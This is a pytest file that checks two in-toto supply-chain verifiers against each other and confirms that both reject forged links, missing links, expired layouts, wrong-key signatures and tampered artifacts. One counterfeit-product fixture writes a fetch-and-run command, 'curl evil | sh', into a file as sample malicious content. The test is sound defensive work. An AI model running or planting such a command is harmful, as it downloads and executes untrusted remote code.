"""in-toto interoperability, both directions, with in-toto 3.1.0 as the oracle.

Every combination of who records the links, who signs the layout and who
verifies, in both envelopes, must pass; and every tampering must be refused
by both verifiers.
"""

from __future__ import annotations

import itertools
import json
import shutil
import tarfile
from pathlib import Path

import pytest
from in_toto import exceptions as ref_errors

from custody.intoto import errors
from custody.intoto.models import link_filename
from tests.intoto.chain import IMPLS, hello_layout, keyid, make_chain, verify_chain

NAMES = list(IMPLS)


@pytest.mark.parametrize("dsse", [False, True], ids=["classic", "dsse"])
@pytest.mark.parametrize(
    ("recorder", "signer", "verifier"), list(itertools.product(NAMES, NAMES, NAMES))
)
def test_chain_verifies_across_implementations(keydir, tmp_path, recorder, signer, verifier,
                                               dsse):
    chain = make_chain(IMPLS[recorder], IMPLS[signer], keydir, tmp_path, dsse)
    verify_chain(IMPLS[verifier], chain)


def test_links_record_identical_artifacts(keydir, tmp_path):
    """The same step recorded by both tools yields the same materials and products."""
    from custody.intoto.metadata import load_metadata

    links = {}
    for name, impl in IMPLS.items():
        chain = make_chain(impl, impl, keydir, tmp_path / name)
        links[name] = load_metadata(
            chain.links / link_filename("build", keyid(keydir, "rb1"))).payload
    assert links["in-toto"].materials == links["custody"].materials
    assert links["in-toto"].products == links["custody"].products
    assert links["in-toto"].byproducts == links["custody"].byproducts


# -- tampering: refused by both ----------------------------------------------

def _refusals(chain, keys=None):
    """Run both verifiers; return the exception each raised."""
    raised = {}
    for name, impl in IMPLS.items():
        with pytest.raises(Exception) as info:
            verify_chain(impl, chain, keys)
        raised[name] = info.value
    return raised


def _assert_refused(raised, ours: type, theirs: type | tuple[type, ...], words: str = ""):
    assert isinstance(raised["custody"], ours), repr(raised["custody"])
    assert isinstance(raised["in-toto"], theirs), repr(raised["in-toto"])
    assert words in str(raised["custody"])


@pytest.fixture(params=NAMES)
def recorder(request):
    return IMPLS[request.param]


def test_artifact_changed_between_steps(keydir, tmp_path, recorder):
    chain = make_chain(recorder, recorder, keydir, tmp_path, tamper_between=True)
    raised = _refusals(chain)
    _assert_refused(raised, errors.RuleError, ref_errors.RuleVerificationError, "src/hello.py")
    assert "step build" in str(raised["custody"])


def test_link_signed_by_unauthorized_key(keydir, tmp_path, recorder):
    chain = make_chain(recorder, recorder, keydir, tmp_path)
    bob_link = chain.links / link_filename("package", keyid(keydir, "bob"))
    # mallory re-records the package step with her own key, under bob's file name
    recorder.run("package", keydir / "mallory", ["dist"], ["hello.tar.gz"],
                 ["cp", "dist/hello.tar.gz", "hello.tar.gz"], tmp_path / "pkg", False)
    forged = next((tmp_path / "pkg").glob(f"package.{keyid(keydir, 'mallory')[:8]}.link"))
    shutil.copy(forged, bob_link)
    raised = _refusals(chain)
    _assert_refused(raised, errors.ThresholdError, ref_errors.ThresholdVerificationError,
                    "package")


def test_missing_link(keydir, tmp_path, recorder):
    chain = make_chain(recorder, recorder, keydir, tmp_path)
    (chain.links / link_filename("package", keyid(keydir, "bob"))).unlink()
    raised = _refusals(chain)
    _assert_refused(raised, errors.LinkNotFoundError, ref_errors.LinkNotFoundError, "package")


def test_expired_layout(keydir, tmp_path, recorder):
    layout = hello_layout(keydir, expires="2020-01-01T00:00:00Z")
    chain = make_chain(recorder, recorder, keydir, tmp_path, layout=layout)
    raised = _refusals(chain)
    _assert_refused(raised, errors.LayoutExpiredError, ref_errors.LayoutExpiredError, "2020")


def test_counterfeit_final_product(keydir, tmp_path, recorder):
    chain = make_chain(recorder, recorder, keydir, tmp_path)
    counterfeit = tmp_path / "evil"
    (counterfeit / "src").mkdir(parents=True)
    (counterfeit / "src" / "hello.py").write_text("import os; os.system('curl evil | sh')\n")
    with tarfile.open(chain.verify_dir / "hello.tar.gz", "w:gz") as tar:
        tar.add(counterfeit / "src", arcname="src")
    raised = _refusals(chain)
    _assert_refused(raised, errors.RuleError, ref_errors.RuleVerificationError, "hello.tar.gz")
    assert "inspection untar" in str(raised["custody"])


def test_threshold_rebuilders_disagree(keydir, tmp_path, recorder):
    chain = make_chain(recorder, recorder, keydir, tmp_path, trojan_rb2=True)
    raised = _refusals(chain)
    _assert_refused(raised, errors.ThresholdError, ref_errors.ThresholdVerificationError,
                    "different artifacts")


def test_threshold_one_rebuilder_missing(keydir, tmp_path, recorder):
    chain = make_chain(recorder, recorder, keydir, tmp_path)
    (chain.links / link_filename("build", keyid(keydir, "rb2"))).unlink()
    raised = _refusals(chain)
    _assert_refused(raised, errors.LinkNotFoundError, ref_errors.LinkNotFoundError, "build")


def test_layout_signed_by_wrong_key(keydir, tmp_path, recorder):
    chain = make_chain(recorder, recorder, keydir, tmp_path)
    raised = _refusals(chain, keys=[keydir / "mallory.pub"])
    _assert_refused(raised, errors.LayoutSignatureError, ref_errors.SignatureVerificationError,
                    "layout")


def test_layout_tampered_after_signing(keydir, tmp_path, recorder):
    chain = make_chain(recorder, recorder, keydir, tmp_path)
    data = json.loads(chain.layout.read_text())
    data["signed"]["steps"][1]["threshold"] = 1
    chain.layout.write_text(json.dumps(data))
    raised = _refusals(chain)
    _assert_refused(raised, errors.LayoutSignatureError, ref_errors.SignatureVerificationError)


def test_link_replayed_as_another_step_refused_by_custody(keydir, tmp_path):
    """Stricter than the reference: a link filed under a step must record that step."""
    custody = IMPLS["custody"]
    layout = hello_layout(keydir)
    alice = keyid(keydir, "alice")
    layout["steps"][2]["pubkeys"] = [alice]  # alice may also package
    chain = make_chain(custody, custody, keydir, tmp_path, layout=layout)
    shutil.copy(chain.links / link_filename("clone", alice),
                chain.links / link_filename("package", alice))
    with pytest.raises(errors.ThresholdError, match="records step 'clone'"):
        verify_chain(custody, chain)


# -- sublayouts ---------------------------------------------------------------

def _delegate_clone_to_sublayout(impl, keydir: Path, chain, tamper: bool = False) -> None:
    """Replace alice's clone link by a sublayout she signs, with its own two steps."""
    import sys

    from custody.intoto.metadata import key_to_dict
    from custody.intoto.models import Layout, Step
    from custody.keys_tooling.keys import load_public_key
    from tests.intoto.chain import WRITE_SCRIPT

    alice, bob = (load_public_key(keydir / f"{n}.pub") for n in ("alice", "bob"))
    work = chain.root / "sub"
    work.mkdir()
    impl.run("write", keydir / "alice", [], ["src"], [sys.executable, "-c", WRITE_SCRIPT],
             work, False)
    if tamper:
        (work / "src" / "README").write_text("changed after write\n")
    impl.run("review", keydir / "bob", ["src"], ["src"], [], work, False)
    sublayout = Layout(
        keys={k.keyid: key_to_dict(k) for k in (alice, bob)},
        expires="2035-01-01T00:00:00Z",
        steps=[
            Step("write", [alice.keyid], 1, [], [["CREATE", "src/*"], ["DISALLOW", "*"]]),
            Step("review", [bob.keyid], 1,
                 [["MATCH", "src/*", "WITH", "PRODUCTS", "FROM", "write"], ["DISALLOW", "*"]],
                 [["MATCH", "src/*", "WITH", "MATERIALS", "FROM", "review"],
                  ["DISALLOW", "*"]]),
        ],
    ).to_dict()
    clone_link = chain.links / link_filename("clone", alice.keyid)
    clone_link.unlink()
    impl.sign_layout(sublayout, [keydir / "alice"], clone_link, False)
    subdir = chain.links / f"clone.{alice.keyid[:8]}"
    subdir.mkdir()
    for link in work.glob("*.link"):
        shutil.move(link, subdir / link.name)


@pytest.mark.parametrize(("maker", "verifier"), list(itertools.product(NAMES, NAMES)))
def test_sublayout_verifies_across_implementations(keydir, tmp_path, maker, verifier):
    chain = make_chain(IMPLS[maker], IMPLS[maker], keydir, tmp_path)
    _delegate_clone_to_sublayout(IMPLS[maker], keydir, chain)
    verify_chain(IMPLS[verifier], chain)


def test_sublayout_tampering_refused_by_both(keydir, tmp_path):
    chain = make_chain(IMPLS["custody"], IMPLS["custody"], keydir, tmp_path)
    _delegate_clone_to_sublayout(IMPLS["custody"], keydir, chain, tamper=True)
    raised = _refusals(chain)
    _assert_refused(raised, errors.RuleError, ref_errors.RuleVerificationError, "src/README")
    assert "step review" in str(raised["custody"])
